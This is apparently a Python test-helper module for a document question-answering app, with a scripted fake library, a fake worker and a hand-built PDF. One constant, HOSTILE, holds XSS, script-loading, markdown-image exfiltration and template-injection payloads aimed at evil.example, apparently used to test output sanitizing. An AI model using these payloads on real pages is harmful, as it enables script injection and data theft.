"""A library that needs no model: a real catalog, and answers by script."""

from __future__ import annotations

import json
import secrets
import threading
import time
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
from sqlalchemy import select

from rag.catalog import Catalog
from rag.catalog.answers import record_answer
from rag.catalog.collections import create_collection
from rag.catalog.contents import Content, content_key, publish, put_contents
from rag.catalog.documents import Upload, add_upload
from rag.catalog.pages import boxes_of, read_page
from rag.catalog.queue import Task, claim, fail, report
from rag.catalog.schema import chunks, documents
from rag.errors import Busy, UnknownCollection
from rag.library import Library
from rag.originals import original_path, store_original
from rag.parsed import Block, BlockKind, Member, Page, Parsed
from rag.records import (
    DEFAULT_COLLECTION,
    NO_FILTERS,
    Answer,
    Chunk,
    Citation,
    Event,
    Filters,
    ModelInfo,
    Passage,
    Question,
    Sentence,
    to_json,
)
from rag.settings import Settings

RECIPE = "fake"
TEXT = (
    "Carrying leave over\n"
    "Up to five unused days may be carried over until 31 March 🌿. "
    "Days that are not taken by then are lost.\n"
    "Sickness\nTell your team lead on the first day."
)
QUOTE = "Up to five unused days may be carried over until 31 March 🌿."

# text that would lead elsewhere if it were taken for anything but text
HOSTILE = (
    "![map](https://evil.example/a.png?leave=5) [Sign in](https://evil.example/b) "
    "<img src='https://evil.example/c.png' onerror='alert(1)'> "
    '<a href="javascript:alert(2)">here</a> https://evil.example/d //evil.example/e '
    "</span><script src=https://evil.example/f.js></script>"
    '" onmouseover="alert(3) <link rel=stylesheet href=//evil.example/g.css> {{ 7 * 191 }}'
)


def page_of(text: str, number: int = 1) -> Page:
    """A page whose lines are its blocks, the first a heading."""
    blocks: list[Block] = []
    at = 0
    for line in text.split("\n"):
        if line.strip():
            kind: BlockKind = "paragraph" if blocks else "heading"
            blocks.append(Block(at, at + len(line), kind, int(not blocks)))
        at += len(line) + 1
    return Page(number, text, tuple(blocks))


def go_live(
    catalog: Catalog,
    task: Task,
    pages: tuple[Page, ...],
    title: str = "",
    members: tuple[Member, ...] = (),
    language: str | None = None,
    unread: tuple[int, ...] = (),
) -> None:
    """Finish a claimed document with these pages, a chunk each."""
    key = content_key(task.bytes_hash, task.kind, RECIPE)
    chunks = tuple(
        Chunk(f"{key}-{page.number}", i, page.number, 0, len(page.text), page.text)
        for i, page in enumerate(pages)
    )
    vectors = np.full((len(chunks), 4), 0.5, dtype=np.float32)
    parsed = Parsed(pages, title, members, language, unread)
    put_contents(catalog, [Content(key, task, RECIPE, parsed, chunks, vectors)])
    publish(catalog, [(task, key)], RECIPE)


class FakeLibrary(Library):
    """Answers by what the question contains: `slow`, `unknown`, `broken`, else a good answer."""

    def __init__(self, settings: Settings, ready: bool = True) -> None:
        self.settings = settings
        self.catalog = Catalog(settings.home / "catalog.sqlite")
        create_collection(self.catalog, DEFAULT_COLLECTION)
        self.is_ready = ready
        self._llm = self._change = self._others = None
        self._answerer = None
        self.parts: dict[str, str] = {}
        self.passages_each = 1
        self.asked: list[Question] = []
        self.searched: list[Filters] = []
        self.used: list[tuple[str, str]] = []
        self.closed = threading.Event()
        self.pause = 0.0
        self.recording = False

    def add(
        self,
        name: str = "handbook.txt",
        data: bytes = TEXT.encode(),
        kind: str = "text",
        pages: tuple[Page, ...] | None = None,
        title: str = "Staff handbook",
        members: tuple[Member, ...] = (),
        language: str | None = None,
        unread: tuple[int, ...] = (),
    ) -> str:
        """Put a live document in; returns its id."""
        path = self.settings.home / "incoming"
        path.write_bytes(data)
        with path.open("rb") as stream:
            bytes_hash, size, _ = store_original(self.settings, self.catalog, stream, name)
        document_id, _ = add_upload(self.catalog, Upload(name, kind, size, bytes_hash), "default")
        task = next(t for t in claim(self.catalog, 100, 10**9) if t.document_id == document_id)
        pages = (page_of(TEXT),) if pages is None else pages
        go_live(self.catalog, task, pages, title, members, language, unread)
        return document_id

    def readiness(self) -> Mapping[str, str]:
        llm = "ready" if self.is_ready else "loading"
        return {"embedder": "ready", "indexes": "ready", "llm": llm, **self.parts}

    @property
    def ready(self) -> bool:
        return self.is_ready

    def record(self, question: Question) -> Answer:
        """Answer and record."""
        answer = _answer(question, self._passages(), self)
        assert record_answer(self.catalog, answer)
        return answer

    def search(
        self,
        query: str,
        collections: Sequence[str] | None = None,
        limit: int = 10,
        filters: Filters = NO_FILTERS,
    ) -> list[Passage]:
        self._refuse(collections)
        self.searched.append(filters)
        return self._passages()[:limit]

    def ask(self, question: Question) -> Iterator[Event]:
        self._refuse(question.collections)
        self.asked.append(question)
        return self._events(question)

    def use_model(self, model: str, adapter: str = "auto") -> None:
        self.used.append((model, adapter))

    def _refuse(self, collections: Sequence[str] | None) -> None:
        if not self.is_ready:
            raise Busy("The models are being loaded. Try again in a moment.")
        for name in collections or ():
            if name != "default":
                raise UnknownCollection(f"There is no collection “{name}”.")

    def _passages(self) -> list[Passage]:
        from rag.catalog.documents import list_documents

        found = [d for d in list_documents(self.catalog) if d.searchable]
        return [
            Passage(
                self._chunk_of(d.id),
                d.id,
                d.title,
                d.source,
                1,
                *_span(self, d.id),
                score=0.9 - i / 10,
            )
            for i, d in enumerate(found[:4])
            for _ in range(self.passages_each)
        ]

    def _chunk_of(self, document_id: str) -> str:
        statement = (
            select(chunks.c.id)
            .join(documents, documents.c.content_key == chunks.c.content_key)
            .where(documents.c.id == document_id)
            .order_by(chunks.c.ordinal)
        )
        with self.catalog.read() as connection:
            return str(connection.execute(statement).scalars().first())

    def _events(self, question: Question) -> Iterator[Event]:
        passages = self._passages()
        try:
            if "broken" in question.text:
                raise RuntimeError("/srv/secret/path")
            yield Event("sources", {"passages": to_json(passages)})
            if "unknown" in question.text:
                yield Event("done", to_json(_abstained(question, passages)))
                return
            answer = _answer(question, passages, self)
            for citation in answer.citations[:1]:
                yield Event("evidence", {"text": QUOTE, "citation": to_json(citation)})
            if question.model:
                yield Event("loading", {"model": question.model})
            for n in range(10_000 if "slow" in question.text else 3):
                time.sleep(0.02 if "slow" in question.text else self.pause)
                yield Event("token", {"text": f"draft{n} "})
            for index, sentence in enumerate(answer.sentences):
                time.sleep(self.pause)
                new = [c for c in answer.citations if c.n in sentence.citations]
                data = {"index": index, "replaces_draft": True, **to_json(sentence)}
                yield Event("sentence", {**data, "new_citations": to_json(new)})
            if self.recording:
                answer = replace(answer, id=f"ans_{secrets.token_hex(8)}")
                assert record_answer(self.catalog, answer)
            yield Event("done", to_json(answer))
        finally:
            self.closed.set()

    def close(self) -> None:
        self.catalog.close()


def _span(library: FakeLibrary, document_id: str) -> tuple[int, int, str]:
    text = read_page(library.catalog, document_id, 1).text
    start = max(0, text.find(QUOTE))
    end = start + len(QUOTE) if QUOTE in text else len(text)
    return start, end, text[start:end]


def _answer(question: Question, passages: list[Passage], library: FakeLibrary) -> Answer:
    citations = tuple(
        Citation(
            p.document_id, p.title, p.source, p.page, p.start, p.end, n, p.text, p.chunk_id,
            f"/documents/{p.document_id}?page={p.page}&start={p.start}&end={p.end}#passage",
            boxes_of(read_page(library.catalog, p.document_id, p.page), p.start, p.end),
        )
        for n, p in enumerate(passages[:2], 1)
    )  # fmt: skip
    sentences: tuple[Sentence, ...] = (
        Sentence("Up to five unused days may be carried over until 31 March [1].", "supported",
                 0.93, (1,)),
        Sentence("Days that are not taken by then are lost.", "quoted", 1.0, (1,)),
        Sentence("The board decides on exceptions.", "unsupported", 0.2, ()),
    )  # fmt: skip
    if "word for word" in question.text:
        sentences = sentences[1:2]
    return _record(
        question, passages, sentences=sentences, citations=citations, confidence=0.93,
        text="Up to five unused days may be carried over until 31 March [1].",
    )  # fmt: skip


def _abstained(question: Question, passages: list[Passage]) -> Answer:
    return _record(
        question, passages, abstained=True, confidence=0.11,
        text="Nothing in the library answers this question.",
    )  # fmt: skip


def _record(question: Question, passages: list[Passage], **values: Any) -> Answer:
    given: dict[str, Any] = {
        "abstained": False, "sentences": (), "citations": (), "short_answer": None,
        "answerable": 0.89, **values,
    }  # fmt: skip
    return Answer(
        id="ans_0123456789abcdef",
        question=question.text,
        standalone_question=" ".join([*(t.question for t in question.history), question.text]),
        collections=question.collections or (),
        passages=tuple(passages),
        model=ModelInfo("SmolLM2-135M-Instruct", "b179c952", "cpu", "starter@0123456789ab"),
        prompt_version="1",
        parameters=dict(question.parameters),
        filters=question.filters,
        timings_ms={"retrieve": 21, "evidence": 60, "first_token": 140, "total": 910},
        **given,
    )


class FakeWorker:
    """Makes queued documents live in a thread, step by step; one named `broken` fails."""

    def __init__(self, library: FakeLibrary, pause: float = 0.2) -> None:
        self._library = library
        self._pause = pause
        self.woken = threading.Event()
        self._stopped = False
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def wake(self) -> None:
        self.woken.set()

    def stop(self) -> None:
        self._stopped = True
        self.woken.set()
        self._thread.join()

    def _run(self) -> None:
        while not self._stopped:
            self.woken.wait()
            self.woken.clear()
            for task in claim(self._library.catalog, 10, 10**9):
                self._read(task)

    def _read(self, task: Task) -> None:
        catalog = self._library.catalog
        report(catalog, [(task, "parsing", 0.3)])
        time.sleep(self._pause)
        if "broken" in task.source:
            fail(catalog, task, RECIPE, "corrupt-document", "The file is damaged; save it anew.")
            return
        report(catalog, [(task, "embedding", 0.7)])
        time.sleep(self._pause)
        path = original_path(self._library.settings, task.bytes_hash)
        text = path.read_text("utf-8", errors="replace") or "empty"
        go_live(catalog, task, (page_of(text),))


def add_models(library: FakeLibrary) -> None:
    """Two models in the models folder, of which one is in use; nothing is loaded."""
    sizes = {"hidden_size": 64, "intermediate_size": 128, "num_hidden_layers": 2}
    config = {
        **{"model_type": "llama", "architectures": ["LlamaForCausalLM"], "vocab_size": 100},
        **{"num_attention_heads": 4, "num_key_value_heads": 2, **sizes},
    }
    for name in ("tiny", "org--other"):
        folder = library.settings.models_path / name
        folder.mkdir(parents=True)
        (folder / "config.json").write_text(json.dumps(config))
        (folder / "model.safetensors").write_bytes(bytes(2_000_000))
    library.settings = replace(library.settings, llm_model="tiny", llm_device="cpu")
    library.current_llm._info = ModelInfo("tiny", "0123", "cpu")


def make_pdf(path: Path) -> bytes:
    """A small PDF of one page, written by hand."""
    stream = b"BT /F1 18 Tf 60 720 Td (Up to five unused days may be carried over.) Tj ET"
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    data, offsets = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        offsets.append(len(data))
        data += b"%d 0 obj%s endobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(data)
    data += b"xref\n0 6\n0000000000 65535 f \n" + table
    data += b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % start
    path.write_bytes(data)
    return data
